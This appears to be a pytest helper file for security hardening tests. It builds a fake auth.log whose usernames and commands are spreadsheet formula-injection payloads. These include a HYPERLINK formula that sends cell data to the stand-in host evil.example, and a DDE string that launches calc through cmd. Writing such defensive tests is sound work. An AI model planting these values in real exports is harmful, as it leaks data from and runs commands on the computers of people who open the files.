"""Shared helpers of the hardening probes: a hostile auth.log and the CLI runner."""

from __future__ import annotations

from pathlib import Path

import pytest

HOSTILE_USER = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")"


@pytest.fixture
def hostile_auth_log(tmp_path: Path) -> Path:
    """An auth.log whose usernames and commands are spreadsheet formulas, plus one corrupt line."""
    path = tmp_path / "logs" / "auth.log"
    path.parent.mkdir()
    path.write_text(
        f"Mar  3 10:15:01 db01 sudo:    {HOSTILE_USER} : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=@SUM(1+1)\n"
        "=cmd|' /C calc'!A0 not a syslog line\n"
        "Mar  3 10:15:02 db01 sshd[9]: Accepted password for +alice from 10.0.0.5 port 22 ssh2\n",
        encoding="utf-8",
    )
    return path
